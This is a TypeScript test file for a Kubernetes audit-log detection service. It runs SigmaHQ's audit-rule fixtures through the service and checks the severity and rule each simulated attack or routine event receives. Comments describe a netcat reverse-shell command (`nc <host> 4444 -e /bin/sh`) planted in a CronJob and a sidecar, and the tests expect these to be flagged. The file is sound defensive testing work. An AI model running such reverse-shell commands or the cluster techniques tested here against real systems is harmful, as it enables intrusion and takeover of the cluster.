// SigmaHQ's Kubernetes audit rules (rules/application/kubernetes/audit/, 18 files: the 16 of the
// default branch and two versions only in pull requests), each with the audit events it is written
// to catch, as kube-apiserver writes them (test/fixtures/offensive-tools/sigma-kubernetes-audit.json,
// one entry per Sigma rule path, every event with its source), POSTed to a running `serve`: what each
// comes out as in `events` and `events --alerts`. Every attack is medium or high with the rule or the
// table's row that decided it named, and each high one's alert a valid OCSF 2004 finding; where a
// Sigma rule is a hunting query that routine traffic matches, the routine case is asserted as what
// this connector does instead (docs/detection-rules.md, "SigmaHQ's Kubernetes audit rules"). Each
// rule's `falsepositives` actors are here too, with what their routine traffic comes out as.
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { FIXTURES } from '../helpers/fixtures.js';
import { type Outcome, servedOnce } from '../helpers/through-serve.js';

const SECRET = 'sigma-kubernetes-secret-0123456789abcdef';

interface Case {
  name: string;
  source: string;
  event: Record<string, unknown>;
}
interface SigmaRule {
  path: string;
  title: string;
  events: Case[];
  falsePositives: Case[];
}
const sigma = JSON.parse(readFileSync(join(FIXTURES, 'offensive-tools', 'sigma-kubernetes-audit.json'), 'utf8')) as {
  secretValues: string[];
  rules: SigmaRule[];
};

/** Each event's severity, its severity_reason and the rules that fired, in the fixture's order. */
const EXEC: Outcome = ['high', 'pod-interactive-access'];
const WORKLOAD: Outcome = ['medium', 'workload-change'];
const SENSITIVE: Outcome = ['high', 'sensitive-resource-change'];
const BINDING: Outcome = ['high', 'rbac-binding-change'];
const rule = (severity: string, id: string, also: string[] = []): Outcome => [severity, `rule:${id}`, [id, ...also]];

/** What each Sigma rule's events come out as: `attacks` all medium or high, `routine` its falsepositives' actors. */
const EXPECTED: Record<string, { attacks: Outcome[]; routine: Outcome[] }> = {
  'kubernetes_audit_change_admission_controller.yml': {
    attacks: Array(4).fill(rule('high', 'admission-webhook-change')),
    // cainjector's update of its own webhook, the CA bundle set, its Service unchanged: the rule
    // named, low (routine-webhook-ca-injection), not an alert at every install, upgrade and rotation.
    routine: [['low', 'routine-webhook-ca-injection', ['admission-webhook-change']]],
  },
  // Not on Sigma's default branch; the audit log sees a compiler only as an exec.
  'kubernetes_audit_compiler_execution_in_container.yml': { attacks: [EXEC], routine: [] },
  'kubernetes_audit_cronjob_modification.yml': {
    // The first CronJob runs `nc <host> 4444 -e /bin/sh`: was medium workload-change.
    attacks: [rule('high', 'reverse-shell-command'), ...Array(4).fill(WORKLOAD)],
    routine: [['info', 'routine-controller-reconcile'], ['info', 'routine-controller-reconcile'], WORKLOAD],
  },
  'kubernetes_audit_deployment_deleted.yml': { attacks: [WORKLOAD, WORKLOAD], routine: [WORKLOAD] },
  'kubernetes_audit_events_deleted.yml': {
    attacks: Array(3).fill(rule('high', 'events-deleted')),
    // The namespace controller's deletecollection of a deleted namespace's events: the table's row
    // (events are none of its kinds), no alert; who deleted the namespace is namespace-deleted's.
    routine: [
      ['info', 'steady-state'],
      ['info', 'steady-state'],
    ],
  },
  'kubernetes_audit_exec_into_container.yml': { attacks: [EXEC, EXEC, EXEC], routine: [] },
  'kubernetes_audit_hostpath_mount.yml': {
    // A hostPath outside the sensitive list (/var/log) is the table's workload row, host-log-mount
    // (medium, KubeHound's CE_VAR_LOG_SYMLINK) named.
    attacks: [rule('high', 'sensitive-host-path'), rule('high', 'sensitive-host-path'), ['medium', 'workload-change', ['host-log-mount']]],
    routine: [
      ['info', 'routine-controller-reconcile'],
      // node-exporter on a new node, from its DaemonSet: the rules that scored the DaemonSet's
      // template are named, low (routine-daemonset-pod), not an alert on every node join.
      ['low', 'routine-daemonset-pod', ['host-pid-or-ipc', 'host-network', 'sensitive-host-path']],
    ],
  },
  'kubernetes_audit_pod_in_system_namespace.yml': {
    attacks: [rule('high', 'kube-system-workload', ['kube-system-pod']), ['medium', 'workload-change', ['kube-system-pod']]],
    routine: [['info', 'routine-controller-reconcile'], ['info', 'steady-state'], rule('medium', 'kube-system-pod')],
  },
  'kubernetes_audit_potential_enumeration_activity.yml': {
    attacks: [
      EXEC,
      EXEC,
      rule('medium', 'workload-permission-discovery'),
      // A person asking what they may do is what kubectl auth can-i and every dashboard do.
      ['info', 'steady-state'],
      rule('medium', 'human-secret-read'),
    ],
    routine: [EXEC],
  },
  'kubernetes_audit_suspicious_enumeration_or_attack.yml': { attacks: [EXEC], routine: [] },
  'kubernetes_audit_privileged_pod_creation.yml': {
    attacks: [
      rule('high', 'privileged-container'),
      rule('high', 'dangerous-capabilities'),
      ['medium', 'workload-change', ['host-network']],
      rule('high', 'host-pid-or-ipc'),
    ],
    // Dropping every capability is the restricted profile: no rule, only the table's workload row.
    routine: [WORKLOAD],
  },
  'kubernetes_audit_rbac_permisions_listing.yml': {
    attacks: [rule('medium', 'workload-permission-discovery'), ['info', 'steady-state']],
    routine: [],
  },
  'kubernetes_audit_rolebinding_modification.yml': {
    // The fourth, `view` bound to system:authenticated (every identity the cluster accepts): was the row alone.
    attacks: [
      ['high', 'rbac-binding-change', ['cluster-admin-binding']],
      BINDING,
      BINDING,
      ['high', 'rbac-binding-change', ['rbac-binding-to-system-group']],
      BINDING,
    ],
    // The table's row 2 is every binding write, a deployer's too (the spec's requirement).
    routine: [BINDING, BINDING],
  },
  'kubernetes_audit_secrets_enumeration.yml': {
    attacks: [
      rule('medium', 'human-secret-read'),
      ['high', 'cluster-wide-secrets-read', ['human-secret-read']],
      // Both with kubectl's user agent: a person at a shell with the pod's token, wherever it reads.
      [
        'medium',
        'rule:workload-cross-namespace-secret-read',
        ['workload-cross-namespace-secret-read', 'workload-secret-read-by-http-tool'],
      ],
      // Its own namespace: low while only the namespace was the signal (Spring Cloud Kubernetes and
      // in-cluster Helm read theirs so, with their own clients); kubectl is what makes it medium.
      rule('medium', 'workload-secret-read-by-http-tool'),
    ],
    routine: [['low', 'sensitive-read']],
  },
  'kubernetes_audit_secrets_modified_or_deleted.yml': {
    attacks: [SENSITIVE, SENSITIVE, SENSITIVE, SENSITIVE],
    // The table's row 3 is every Secret write, Helm's release records and cert-manager's renewals too.
    routine: [SENSITIVE, SENSITIVE],
  },
  'kubernetes_audit_serviceaccount_creation.yml': {
    attacks: [SENSITIVE, SENSITIVE],
    routine: [['info', 'routine-controller-reconcile']],
  },
  // The injected log-shipper loops `nc <host> 4444 -e /bin/sh`: was medium workload-change.
  'kubernetes_audit_sidecar_injection.yml': {
    attacks: [rule('high', 'reverse-shell-command'), rule('high', 'privileged-container')],
    routine: [WORKLOAD],
  },
  'kubernetes_audit_unauthorized_unauthenticated_actions.yml': {
    attacks: [
      ['medium', 'request-denied-or-failed'],
      ['medium', 'request-denied-or-failed'],
    ],
    routine: [],
  },
};
const file = (path: string) => path.split('/').pop() as string;

describe("SigmaHQ's Kubernetes audit rules through serve", () => {
  const items = sigma.rules.flatMap((r) => [...r.events, ...r.falsePositives].map((c) => c.event));
  const served = servedOnce('aisoc-sigma-', SECRET, 'prod', items);

  it('accepts every event', () => {
    expect(served.status).toBe(200);
    expect(served.answer).toMatchObject({ accepted: items.length, rejected: 0 });
  });

  it("has all 18 of Sigma's rule files, each with an expectation for every event", () => {
    expect(sigma.rules.map((r) => file(r.path)).sort()).toEqual(Object.keys(EXPECTED).sort());
    expect(sigma.rules).toHaveLength(18);
    for (const r of sigma.rules) {
      expect(r.events.length, r.path).toBe(EXPECTED[file(r.path)]?.attacks.length);
      expect(r.falsePositives.length, r.path).toBe(EXPECTED[file(r.path)]?.routine.length);
    }
  });

  it('scores every attack event medium or high, except the hunting cases documented', () => {
    const below = sigma.rules.flatMap((r) =>
      r.events
        .filter((c) => !['medium', 'high'].includes(served.records.find((x) => x.audit_id === c.event.auditID)?.severity ?? ''))
        .map((c) => `${file(r.path)}: ${c.name}`),
    );
    expect(below).toEqual([
      'kubernetes_audit_potential_enumeration_activity.yml: the same run by a person with their own kubeconfig',
      'kubernetes_audit_rbac_permisions_listing.yml: kubectl auth can-i --list by a person',
    ]);
  });

  for (const r of sigma.rules) {
    it(`Sigma ${file(r.path)}: the events it is written to catch`, () => {
      r.events.forEach((c, i) => {
        served.check(c.event, EXPECTED[file(r.path)]?.attacks[i] as Outcome);
      });
    });
    if (r.falsePositives.length > 0) {
      it(`Sigma ${file(r.path)}: its falsepositives' routine actors`, () => {
        r.falsePositives.forEach((c, i) => {
          served.check(c.event, EXPECTED[file(r.path)]?.routine[i] as Outcome);
        });
      });
    }
  }

  it('keeps no Secret value a request carried', () => {
    const stored = JSON.stringify([served.records, served.alerts]);
    expect(stored).not.toBe('');
    for (const v of sigma.secretValues) expect(stored).not.toContain(v);
  });
});
